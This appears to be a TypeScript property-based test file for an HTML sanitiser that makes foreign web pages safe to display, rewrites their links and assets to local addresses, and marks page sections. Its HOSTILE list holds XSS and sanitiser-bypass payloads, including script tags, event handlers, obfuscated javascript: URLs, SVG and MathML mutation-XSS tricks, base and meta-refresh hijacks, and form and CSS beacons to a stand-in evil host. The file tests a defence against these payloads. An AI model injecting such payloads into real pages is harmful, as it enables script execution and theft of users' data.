import fc from 'fast-check';
import { expect, it } from 'vitest';
import { InvalidInputError } from '#server/core/errors';
import { safeForeignPage } from '#server/markup/foreign-page';
import { attribute, elementsWithin, isElement, wordsOf } from '#server/markup/html-tree';
import { parseForeignPage } from '#server/markup/parse-html';
import { safeCss } from '#server/markup/safe-css';

const SITE = 'https://kiln.example';
const addresses = {
  page: `${SITE}/about/`,
  file: ({ origin, pathname, search }: URL) => (origin === SITE ? `/look/file${pathname}${search}` : null),
  link: ({ origin, pathname }: URL) => (origin === SITE ? `/look/page${pathname}` : null),
};
const shown = (html: string) => safeForeignPage(html, 'draft', addresses);
const elementsOf = (html: string) => elementsWithin(parseForeignPage(html));

/** Pieces of HTML, each of which does something, asks another host, or leads away. */
const HOSTILE = [
  '<script>steal()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="steal()">',
  '<body onload="steal()">',
  '<a href="javascript:steal()">a</a>',
  '<a href=" java\tscript:steal()">a</a>',
  '<svg onload="steal()"><script>steal()</script><foreignObject><iframe src="https://evil.example"></iframe></foreignObject><animate onbegin="steal()" attributeName="x"/><a xlink:href="javascript:steal()"><text>a</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/><image href="https://evil.example/x.png"/></svg>',
  '<math><mtext><a href="javascript:steal()">m</a></mtext></math>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name="cookie"><button formaction="https://evil.example">x</button></form>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="preload" as="script" href="https://evil.example/x.js">',
  '<style>@import "https://evil.example/x.css"; @import url(//evil.example/y.css) screen; p{background:url(https://evil.example/z.png)}</style>',
  '<p style="background:url(\'https://evil.example/t.png\')">t</p>',
  '<img src="https://evil.example/t.png" srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/a.mp3">',
  '<svg><style>&lt;script>steal()&lt;/script>&lt;img src=x onerror=steal()></style></svg>',
  '<math><style>&lt;/style>&lt;script>steal()&lt;/script></style></math>',
  '<svg><style><!--<img src=x onerror=steal()>--></style></svg>',
  '<svg><style><![CDATA[</style><script>steal()</script>]]></style></svg>',
  '<template><script>steal()</script></template>',
  '<noscript><img src="https://evil.example/n.png"></noscript>',
  '<img name="documentElement"><form name="querySelectorAll"></form>',
  '<div data-look="ours" data-section="sec_forged" data-field="title">forged</div>',
  '<style></style><!--</style><script>steal()</script>-->',
  '<p title="</p><script>steal()</script>">t</p>',
];

/** Elements that run code or load something. */
const ACTIVE = 'script iframe object embed base foreignObject template audio animate image'.split(' ');

/** Attributes that load, send or lead somewhere. */
const LOADING = 'src srcSet poster data action formAction xLinkHref background ping srcDoc'.split(' ');

it('nothing of a foreign page runs, sends, or asks another host, however it is put together', () => {
  const pieces = fc.array(
    fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom('<p>', '</div>', '<!--', '-->', '<svg>', '<table>', '"', "'", '<title>'),
    ),
    { minLength: 1, maxLength: 8 },
  );
  fc.assert(
    fc.property(pieces, (list) => {
      for (const element of elementsOf(shown(`<html><head></head><body>${list.join('')}</body></html>`))) {
        const { tagName, properties } = element;
        expect(ACTIVE).not.toContain(tagName);
        expect(
          Object.keys(properties).filter((name) => /^on/i.test(name) || name === 'name' || name === 'httpEquiv'),
        ).toEqual(tagName === 'meta' && 'name' in properties ? ['name'] : []);
        for (const name of LOADING) expect(attribute(element, name) ?? '/look/file/').toMatch(/^\/look\/file\//);
        const href = attribute(element, 'href') ?? '/look/';
        const isAway = tagName === 'a' && attribute(element, 'target') === '_blank' && href.startsWith('https://');
        if (!isAway) expect(href).toMatch(/^(?:\/look\/|#|mailto:|tel:)/);
        const css = tagName === 'style' ? wordsOf(element) : (attribute(element, 'style') ?? '');
        expect(css).not.toContain('evil.example');
        expect(attribute(element, 'dataSection')).toBeUndefined();
        if (tagName !== 'html') expect(attribute(element, 'dataLook')).toBeUndefined();
      }
    }),
    { numRuns: 300 },
  );
});

it('a page keeps its classes, styles, pictures and internal links, by our addresses', () => {
  const html = shown(`<!doctype html><html class="no-js" lang="de"><head><title>Ton</title><base href="/x/">
    <link rel="stylesheet" href="/wp-content/t/style.css?ver=2" media="all"><style id="g">@font-face{src:url(fonts/a.woff2)}</style></head>
    <body class="page single"><svg viewBox="0 0 2 2"><path d="M0 0h2" fill-rule="evenodd"/></svg><p id="x" style="color:red;background:url(b.png)">Clay</p>
    <img src="k.png" srcset="k-1.png 1x, k-2.png 2x" alt="A kiln"><a href="../contact/">in</a><a href="https://else.example/">out</a><a href="#x">here</a></body></html>`);
  expect(html).toMatch(
    /^<!doctype html>\n<html class="no-js" lang="de" data-look="draft"><head><meta charset="utf-8">/,
  );
  expect(html).toContain('<link rel="stylesheet" href="/look/file/wp-content/t/style.css?ver=2" media="all">');
  expect(html).toContain('<style id="g">@font-face{src:url("/look/file/about/fonts/a.woff2")}</style>');
  expect(html).toContain(
    '<body class="page single"><svg viewBox="0 0 2 2"><path d="M0 0h2" fill-rule="evenodd"></path></svg>',
  );
  expect(html).toContain('style="color:red;background:url(&#x22;/look/file/about/b.png&#x22;)"');
  expect(html).toContain(
    'src="/look/file/about/k.png" srcset="/look/file/about/k-1.png 1x, /look/file/about/k-2.png 2x"',
  );
  expect(html).toContain('<a href="/look/page/contact/">in</a>');
  expect(html).toContain(
    '<a href="https://else.example/" target="_blank" rel="noopener noreferrer">out</a><a href="#x">here</a>',
  );
});

it('a style sheet keeps imports from its site only', () => {
  const css =
    '@import "base.css" screen;@import url(https://evil.example/a.css);a{b:url(#m) url("data:image/png;base64,AA") url( ../i.png )}';
  expect(safeCss(css, `${SITE}/t/style.css`, addresses.file)).toBe(
    '@import "/look/file/t/base.css" screen;a{b:url(#m) url("data:image/png;base64,AA") url("/look/file/i.png")}',
  );
});

it('exactly the elements of a part have the id of the part', () => {
  const inner = fc.array(
    fc.constantFrom(
      '<p>a</p>',
      '<div><p>b</p><p>c</p></div>',
      '<hr>',
      '<figure></figure>',
      '\n',
      '<ul><li>d</li></ul>',
    ),
    { minLength: 1, maxLength: 4 },
  );
  fc.assert(
    fc.property(fc.array(inner, { minLength: 1, maxLength: 6 }), fc.boolean(), (parts, hasFrame) => {
      const mark = 'abc123';
      const ids = parts.map((_, index) => `sec_${index}`);
      const body = parts
        .map((part, index) => `<!--${mark} ${index}-->${part.join('')}<!--/${mark} ${index}-->`)
        .join('\n');
      const around = hasFrame
        ? ['<header><p>menu</p></header><main class="c">', '</main><footer>f</footer>']
        : ['', ''];
      const html = safeForeignPage(`<body>${around.join(body)}</body>`, 'draft', addresses, { mark, ids });
      expect(html).not.toContain(mark);
      const marked = elementsOf(html).filter(({ properties }) => 'dataSection' in properties);
      // The elements that were put there, in their order, and none around or within them.
      const wanted = parts.flatMap((part, index) =>
        part.filter((piece) => piece !== '\n').map((piece) => [`sec_${index}`, /\w+/.exec(piece)?.[0]]),
      );
      expect(marked.map((each) => [attribute(each, 'dataSection'), each.tagName])).toEqual(wanted);
    }),
  );
});

it('text that WordPress made paragraphs of is marked, though the marks are within them', () => {
  const html = safeForeignPage(
    '<div class="entry"><p><!--m1 0-->One</p>\n<p>Two<!--/m1 0--></p><h2><!--m1 1-->Three<!--/m1 1--></h2></div>',
    'draft',
    addresses,
    { mark: 'm1', ids: ['a', 'b'] },
  );
  const marked = elementsOf(html).filter((each) => isElement(each) && 'dataSection' in each.properties);
  expect(marked.map((each) => [attribute(each, 'dataSection'), wordsOf(each)])).toEqual([
    ['a', 'One'],
    ['a', 'Two'],
    ['b', 'Three'],
  ]);
});

it('foreign marks mark nothing, and a repeated part is marked once', () => {
  const parts = { mark: 'm1', ids: ['a'] };
  const forged = safeForeignPage(
    '<div><!--m2 0--><p>x</p><!--/m2 0--><!--m1 7--><p>y</p><!--/m1 7--></div>',
    'draft',
    addresses,
    parts,
  );
  expect(forged).not.toContain('data-section');
  const twice = safeForeignPage(
    '<div><!--m1 0--><p>x</p><!--/m1 0--></div><div><!--m1 0--><p>x</p><!--/m1 0--></div>',
    'draft',
    addresses,
    parts,
  );
  expect(twice.match(/data-section/g)).toHaveLength(1);
});

it('a page beyond the limits of the parser is refused', () => {
  expect(() => shown('<p><b id=1>'.repeat(20_000))).toThrow(InvalidInputError);
  expect(() => shown('<div>'.repeat(300))).toThrow(InvalidInputError);
});
